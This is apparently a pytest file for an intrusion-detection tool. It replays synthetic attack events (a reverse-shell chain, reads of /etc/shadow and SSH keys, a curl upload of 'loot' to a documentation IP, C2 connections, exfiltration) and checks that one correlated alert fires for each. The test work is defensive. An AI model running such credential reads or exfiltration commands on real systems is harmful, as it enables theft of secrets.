"""Attack scenarios through a real hive: events on the bus, rules and
correlate plugins running, one alert per attack."""

from __future__ import annotations

import itertools
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from immune import config as config_mod
from immune.events import Alert, Event, now_ns
from immune.hive import Hive
from immune.plugins.correlate import CorrelatePlugin
from immune.plugins.rules import RulesPlugin

_ids = itertools.count()


def make_hive(tmp_path: Path, settings: dict[str, Any] | None = None) -> Hive:
    config = config_mod.load(environ={})
    config.hive.database = f"sqlite:///{tmp_path / 'hive.db'}"
    config.plugins["rules"] = {"poll_interval": 0, **(settings or {})}
    config.plugins["correlate"] = {"poll_interval": 0}
    plugins = [("rules", RulesPlugin()), ("correlate", CorrelatePlugin())]
    return Hive(config, plugins=plugins, discover=False)


@pytest.fixture
async def hive(tmp_path: Path) -> AsyncIterator[tuple[Hive, list[Alert]]]:
    hive = make_hive(tmp_path)
    alerts: list[Alert] = []
    hive.bus.subscribe("alert.#", alerts.append, owner="test")
    await hive.start()
    yield hive, alerts
    await hive.stop()
    hive.store.close()


class Clock:
    """Event times: now, then the seconds given after it."""

    def __init__(self) -> None:
        self.start = now_ns()

    def event(self, kind: str, agent: str, at: float, **fields: Any) -> Event:
        return Event(
            id=f"sc-{next(_ids)}",
            agent_id=agent,
            host=f"{agent}.example",
            ts=self.start + int(at * 1e9),
            kind=kind,
            pid=4242,
            uid=1000,
            **fields,
        )


async def settle(hive: Hive) -> None:
    # An alert raised while handling an event is queued anew; so are the
    # correlations of that alert.
    for _ in range(5):
        await hive.bus.join()


def only(alerts: list[Alert], rule: str) -> Alert:
    found = [a for a in alerts if a.rule == rule]
    assert len(found) == 1, f"{len(found)} alerts of {rule}: {found}"
    return found[0]


def noise(clock: Clock, agent: str, at: float) -> list[Event]:
    return [
        clock.event("exec", agent, at, exe="/usr/bin/ls", argv=["ls", "-l"]),
        clock.event("open", agent, at, path="/etc/hosts", exe="/usr/bin/cat"),
        clock.event("connect", agent, at, addr="127.0.0.1", port=5432),
    ]


async def test_scenario_reverse_shell_chain_gives_one_alert(hive):
    hive, alerts = hive
    clock = Clock()
    implant = "/tmp/.cache/implant"
    chain = [
        clock.event("exec", "web-1", 1, exe=implant, argv=[implant]),
        clock.event("connect", "web-1", 2, exe=implant, addr="203.0.113.7", port=4444),
        clock.event("connect", "web-1", 3, exe=implant, addr="203.0.113.7", port=4444),
        clock.event("setuid", "web-1", 4, exe=implant, euid=0, old_euid=1000),
        # The attack goes on: no second chain alert for it.
        clock.event("connect", "web-1", 5, exe=implant, addr="203.0.113.7", port=4444),
        clock.event("setuid", "web-1", 6, exe=implant, euid=0, old_euid=1000),
    ]
    partial = [clock.event("exec", "web-2", 1, exe="/tmp/y", argv=["/tmp/y"])]
    await hive.ingest([*noise(clock, "web-1", 0), *chain, *noise(clock, "web-1", 7)])
    await hive.ingest(partial)
    await settle(hive)

    alert = only(alerts, "chain-reverse-shell")
    assert alert.severity == "critical" and alert.plugin == "correlate"
    assert alert.agent_id == "web-1"
    assert alert.event_ids == [chain[0].id, chain[1].id, chain[3].id]
    assert {"T1204.002", "T1571", "T1548.001"} <= set(alert.techniques)
    assert alert.data["key"] == "agent=web-1"
    assert alert.data["agents"] == ["web-1"]
    assert alert.data["count"] == 3
    assert hive.metrics.get("correlate.suppressed") >= 1
    # The single-event rules fired on their own events too.
    assert sum(a.rule == "exec-from-temp-dir" for a in alerts) == 2


async def test_scenario_credential_harvest_chain_gives_one_alert(hive):
    hive, alerts = hive
    clock = Clock()
    chain = [
        clock.event("open", "db-1", 1, path="/etc/shadow", exe="/usr/bin/cat"),
        clock.event("open", "db-1", 20, path="/home/u/.ssh/id_rsa", exe="/usr/bin/cp"),
        clock.event(
            "open", "db-1", 21, path="/root/.ssh/id_ed25519", exe="/usr/bin/cp"
        ),
        clock.event(
            "exec",
            "db-1",
            40,
            exe="/usr/bin/curl",
            argv=["curl", "-T", "/tmp/loot", "https://203.0.113.8/u"],
        ),
        clock.event("connect", "db-1", 41, addr="203.0.113.8", port=443),
    ]
    # The system's own reads of the shadow file are no chain start.
    benign = [
        clock.event("open", "db-2", 1, path="/etc/shadow", exe="/usr/sbin/unix_chkpwd"),
        clock.event("open", "db-2", 2, path="/home/u/.ssh/id_rsa", exe="/usr/bin/ssh"),
        clock.event("connect", "db-2", 3, addr="198.51.100.1", port=22),
    ]
    await hive.ingest([*noise(clock, "db-1", 0), *chain])
    await hive.ingest(benign)
    await settle(hive)

    alert = only(alerts, "chain-credential-harvest")
    assert alert.agent_id == "db-1"
    assert alert.event_ids == [chain[0].id, chain[1].id, chain[3].id]
    assert {"T1003.008", "T1552.004", "T1041"} <= set(alert.techniques)
    assert alert.data["stages"] == [
        "credential file read",
        "SSH key read",
        "outbound transfer",
    ]


async def test_scenario_lateral_movement_gives_one_alert(hive):
    hive, alerts = hive
    clock = Clock()
    c2 = "203.0.113.99"
    for n, agent in enumerate(["ws-1", "ws-2", "ws-3", "ws-4"]):
        await hive.ingest(
            [
                *noise(clock, agent, n),
                clock.event("connect", agent, 10 + n, addr=c2, port=31337),
            ]
        )
    # Another indicator on two agents only: not enough.
    for agent in ["ws-5", "ws-6"]:
        await hive.ingest([clock.event("exec", agent, 30, exe="/dev/shm/m")])
    await settle(hive)

    alert = only(alerts, "lateral-movement")
    assert alert.severity == "critical"
    assert alert.data["key"] == f"indicator={c2}"
    # Alerts of different agents cross the bus on different shards: which
    # three come first is not fixed, that three of the four count is.
    agents = alert.data["agents"]
    assert len(agents) == 3 and set(agents) <= {"ws-1", "ws-2", "ws-3", "ws-4"}
    assert alert.data["rules"] == ["connect-to-blocked-port"]
    assert len(alert.data["alert_ids"]) == 3
    assert len(alert.event_ids) == 3
    assert sum(a.rule == "connect-to-blocked-port" for a in alerts) == 4


async def test_scenario_exfiltration_gives_one_alert(hive):
    hive, alerts = hive
    clock = Clock()
    out = [
        clock.event("connect", "app-1", 10 * n, addr="198.51.100.20", port=8443)
        for n in range(8)
    ]
    # Many connections to the local database are no exfiltration.
    local = [
        clock.event("connect", "app-1", n, addr="127.0.0.1", port=5432)
        for n in range(20)
    ]
    # Spread over more than 300 s: not counted together.
    slow = [
        clock.event("connect", "app-2", 100 * n, addr="198.51.100.20", port=8443)
        for n in range(5)
    ]
    await hive.ingest([*local, *out])
    await hive.ingest(slow)
    await settle(hive)

    alert = only(alerts, "exfiltration")
    assert alert.agent_id == "app-1"
    assert alert.data["key"] == "agent=app-1,addr=198.51.100.20,port=8443"
    assert alert.event_ids == [e.id for e in out[:5]]
    assert alert.data["count"] == 5


async def test_scenario_alerts_are_stored(hive):
    hive, alerts = hive
    clock = Clock()
    await hive.ingest([clock.event("connect", "s-1", 0, addr="192.0.2.4", port=4444)])
    await settle(hive)
    await hive.store.flush()
    assert [row["rule"] for row in hive.store.alerts()] == ["connect-to-blocked-port"]
